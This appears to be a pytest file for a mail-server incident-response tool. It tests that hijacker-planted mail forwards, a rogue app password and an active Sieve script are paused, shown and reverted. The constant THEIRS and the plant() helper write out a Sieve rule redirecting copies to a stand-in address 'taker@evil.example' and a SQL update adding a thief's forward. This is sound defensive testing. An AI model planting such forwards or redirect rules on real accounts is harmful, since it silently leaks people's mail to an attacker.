"""What a thief planted so that mail leaves: seen by the judge, put out of force by the containment
whatever dies meanwhile, and put right to the letter by one word."""

import contextlib
import itertools
import json
import uuid

import pytest

from labkit import wait_for
from test_attack import ABROAD, send_as_hijacker, strangers
from test_recovery import HOME, own_day, path, standing

MINE = 'require ["fileinto"];\r\n# ふるい\r\nif header :is "subject" "list" { fileinto "Junk"; }\r\n'
THEIRS = 'require ["copy"];\nredirect :copy "taker@evil.example";\n'


@pytest.fixture
def owner(lab, people):
    """Somebody with a forward, a script and an app password of their own, since before today."""
    owner = people[0]
    # A new account comes with what it has; nobody hears of it.
    lab.store_rows("UPDATE mailbox SET created = datetime('now', '+1 day') WHERE username = ?",
               owner)
    lab.stop_daemon()
    lab.store_rows("CREATE TABLE IF NOT EXISTS mailbox_app_password (id INTEGER PRIMARY KEY "
                    "AUTOINCREMENT, username VARCHAR(255) NOT NULL, description VARCHAR(255), "
                    "password_hash VARCHAR(255))")
    lab.store_rows("UPDATE alias SET goto = ? WHERE address = ?", f"{owner}, {home_of(owner)}",
               owner)
    add_app_password(lab, owner, "own phone", "$6$own")
    # The first look-up after the new table fails ("SQL logic error", 75): Dovecot's connection to
    # SQLite learns of the schema's change by it.
    wait_for(lambda: lab.doveadm("sievePut", user=owner, scriptname="mine", file=MINE) == [], 30,
             "a script of their own")
    assert lab.doveadm("sieveActivate", user=owner, scriptname="mine") == []
    lab.start_daemon()
    wait_for(lambda: {"forward", "sieve_active", "app_password"} <=
             {way["kind"] for way in in_force(lab, owner)}, 30, "the watch knowing all of it")
    lab.store_rows("UPDATE mailbox SET created = datetime('now', '-1 day') WHERE username = ?",
               owner)
    own_day(lab, owner)
    return owner


def home_of(owner):
    return f"home.{owner.partition('@')[2]}@friends.example"


def add_app_password(lab, owner, description, hashed):
    lab.store_rows("INSERT INTO mailbox_app_password(username, description, password_hash) "
                    "VALUES(?, ?, ?)", owner, description, hashed)


def in_force(lab, owner):
    return lab.api.get(path(owner, "ways"))["items"]


def on_disk(lab, owner):
    """Everything by which mail leaves, byte for byte."""
    scripts = {one["script"]: lab.doveadm("sieveGet", user=owner, scriptname=one["script"])
               for one in lab.doveadm("sieveList", user=owner)}
    active = [one["script"] for one in lab.doveadm("sieveList", user=owner) if one["active"]]
    return (lab.store_rows("SELECT address, goto, domain, created, active FROM alias "
                            "WHERE address = ?", owner),
            lab.store_rows("SELECT * FROM mailbox_app_password WHERE username = ? ORDER BY id",
                       owner), scripts, active)


def plant(lab, owner):
    """As a thief does in PostfixAdmin and the webmail's filters."""
    lab.store_rows("UPDATE alias SET goto = goto || ',Thief@Evil.example', modified = datetime() "
                    "WHERE address = ?", owner)
    add_app_password(lab, owner, "printer", "$6$thief")
    sieve, answer = lab.sieve(owner, client=ABROAD[0])
    with sieve:
        assert answer.startswith("OK")
        sieve.put_active("spam filter", THEIRS)


def hijack(lab, owner, at_contained):
    """A thief who plants and sends until the machine contains; returns the incident."""
    mark = uuid.uuid4().hex[:8]
    for sent in range(0, 20, 10):
        send_as_hijacker(lab, owner, ABROAD[0], strangers(mark, 10, sent))
    plant(lab, owner)
    wait_for(lambda: any("Thief@Evil.example" in way["targets"] for way in in_force(lab, owner)),
             20, "the planted forward seen")
    planted = on_disk(lab, owner)
    for number, client in zip(range(40), itertools.cycle(ABROAD)):
        if standing(lab, owner) in ("restricted", "suspended"):
            break
        send_as_hijacker(lab, owner, client, strangers(mark, 10, 100 + 10 * number))
    assert standing(lab, owner) in ("restricted", "suspended")
    at_contained()
    return lab.api.account(owner)["incident"]["id"], planted


def steps_done(lab, incident, *kinds):
    def done():
        steps = lab.api.get(f"/incidents/{incident}")["steps"]
        states = {kind: [s["state"] for s in steps if s["kind"] == kind] for kind in kinds}
        return all(found and set(found) == {"done"} for found in states.values())

    wait_for(done, 30, f"{kinds} done")


def ways(lab, incident):
    return {(way["kind"], way["key"]): way
            for way in lab.api.get(f"/incidents/{incident}/ways")["items"]}


def answer(lab, incident, way, word):
    return lab.api.call("POST", f"/incidents/{incident}/ways/{way['id']}/{word}",
                        {"reason": "the owner says so"})


def test_planted_ways_are_paused_shown_reverted_and_kept_to_the_letter(lab, owner):
    before = on_disk(lab, owner)

    def die_twice():
        # Between any two steps, and again.
        for _ in range(2):
            lab.kill_daemon()
            lab.start_daemon()

    incident, planted = hijack(lab, owner, die_twice)
    assert planted != before
    # The judge weighed it.
    evidence = lab.api.get(f"/incidents/{incident}")["evidence"]
    assert "settings" in {line["channel"] for line in evidence}, evidence
    # A restriction: the account is used on, what is the thief's is not.
    if standing(lab, owner) == "suspended":
        lab.api.change("restrict", "account", owner, reason="a test")
    steps_done(lab, incident, "suspend_app_passwords", "pause_forwards")
    seen = ways(lab, incident)
    theirs = {("forward", "thief@evil.example"), ("sieve_script", "spam filter"),
              ("sieve_active", "")}
    [printer] = [key for key, way in seen.items() if way["after"] and
                 way["after"]["en"] == "printer"]
    old = [key for key, way in seen.items() if way["kind"] == "app_password" and key != printer]
    assert set(seen) == theirs | {printer} | set(old), seen
    assert {way["state"] for way in seen.values()} == {"paused"}, seen
    assert {key for key, way in seen.items() if way["external"]} == theirs
    assert seen["sieve_active", ""]["targets"] == ["taker@evil.example"]
    assert seen["sieve_active", ""]["before"]["en"] == "mine"
    assert "$6$" not in json.dumps(list(seen.values()))
    rows, passwords, scripts, active = on_disk(lab, owner)
    assert rows == before[0] and active == ["mine"]
    assert all(hashed != "$6$thief" for _, _, _, hashed in passwords)
    # Mail goes where the owner wanted it, and nowhere else.
    subject = lab.deliver("friend@far.example", owner, client=HOME)
    lab.sink.wait_for(subject=subject, to=home_of(owner))
    lab.wait_in_mailbox(owner, subject)
    assert {to for mail in lab.sink.mails(subject=subject) for to in mail.recipients} == {
        home_of(owner)}

    for word, expected in (("revert", before), ("keep", planted)):
        for key in sorted(theirs, reverse=True):  # a script before what makes it active
            told = answer(lab, incident, seen[key], word)
            assert told["state"] == ("reverted" if word == "revert" else "kept")
            assert answer(lab, incident, seen[key], word)["state"] == told["state"]
        rows, _, scripts, active = on_disk(lab, owner)
        assert (rows, scripts, active) == (expected[0], expected[2], expected[3])
    # App passwords come back with the account: the owner's by themselves, a new one by a word.
    refused = lab.api.ask("POST", f"/incidents/{incident}/ways/{seen[printer]['id']}/keep", {})
    assert refused.status == 409, refused.body
    lab.api.change("suspend", "account", owner, reason="a test")
    wait_for(lambda: all(row[3] not in ("$6$own", "$6$thief") for row in on_disk(lab, owner)[1]),
             20, "all app passwords suspended")
    lab.api.change("restore", "account", owner, reason="nothing of it was a thief's")
    wait_for(lambda: on_disk(lab, owner)[1][0][3] == "$6$own", 20, "the owner's own back")
    assert answer(lab, incident, seen[printer], "keep")["state"] == "kept"
    assert on_disk(lab, owner) == planted
    assert answer(lab, incident, seen[printer], "revert")["state"] == "reverted"
    assert on_disk(lab, owner)[1] == before[1]

    def audited(action):
        return sum(entry["action"] == action for entry in lab.api.audit(owner))

    wait_for(lambda: audited("way_revert") == audited("way_keep") == 7, 20, "each answer audited")


def test_the_command_line_shows_and_answers(lab, owner):
    def run(*words):
        done = lab.sekimori("--lang", "ja", *words)
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    assert home_of(owner) in run("account", "ways", owner)
    lab.api.change("restrict", "account", owner, reason="a test")
    incident = lab.api.account(owner)["incident"]["id"]
    with contextlib.ExitStack() as end:
        end.callback(lab.api.change, "restore", "account", owner, reason="a test")
        # What is planted before that step is put out of force by it.
        steps_done(lab, incident, "pause_forwards")
        plant(lab, owner)
        wait_for(lambda: all(word in run("incident", "ways", str(incident))
                             for word in ("Thief@Evil.example", "未回答")), 20, "the forward shown")
        # Nothing is put out of force while nobody contains: a person answers.
        planted = ways(lab, incident)["forward", "thief@evil.example"]
        run("incident", "revert", str(incident), str(planted["id"]), "--reason", "盗まれました")
        assert "戻した" in run("incident", "ways", str(incident))
        [[goto]] = lab.store_rows("SELECT goto FROM alias WHERE address = ?", owner)
        assert goto == f"{owner}, {home_of(owner)}"
        wrong = lab.sekimori("incident", "keep", str(incident), "999999")
        assert wrong.returncode == 1


def test_a_contained_domain_loses_what_is_new_and_an_admins_edit_is_told_apart(lab, people):
    owner, other = people[:2]
    domain = owner.partition("@")[2]
    for account in (owner, other):
        lab.store_rows("UPDATE mailbox SET created = datetime('now', '-1 day') WHERE username = ?",
                       account)
        assert not in_force(lab, account)
    lab.api.change("restrict", "domain", domain, reason="a test")
    incident = lab.api.get(f"/domains/{domain}")["incident"]
    with contextlib.ExitStack() as end:
        end.callback(lab.api.change, "restore", "domain", domain, reason="a test's end")
        forward = "UPDATE alias SET goto = goto || ? WHERE address = ?"
        # PostfixAdmin writes both within one request; the guard may look between two of ours.
        lab.store_rows("INSERT INTO log(timestamp, username, domain, action, data) VALUES("
                       "datetime('now'), 'Admin@lab-en.example (192.0.2.8)', ?, 'edit_alias', ?)",
                       domain, owner)
        lab.store_rows(forward, ",friend@far.example", owner)
        lab.store_rows(forward, ",thief@evil.example", other)
        lab.api.change("suspend", "domain", domain, reason="a test")
        steps_done(lab, incident, "suspend_app_passwords", "pause_forwards")
        seen = ways(lab, incident)
        assert {key: (way["account"], way["state"], way["editor"])
                for key, way in seen.items()} == {
            ("forward", "friend@far.example"): (owner, "paused", "admin@lab-en.example"),
            ("forward", "thief@evil.example"): (other, "paused", "")}
        goto = "SELECT goto FROM alias WHERE address = ?"
        assert [lab.store_rows(goto, account) for account in (owner, other)] == [
            [(owner,)], [(other,)]]
        # An administrator put it there: it comes back by a word, the thief's does not.
        assert answer(lab, incident, seen["forward", "friend@far.example"], "keep")["by"]
        assert lab.store_rows(goto, owner) == [(f"{owner},friend@far.example",)]
        assert lab.store_rows(goto, other) == [(other,)]
        # The judge heard nothing of the administrator's.
        evidence = lab.api.get(f"/incidents?account={owner}")["items"]
        assert not evidence
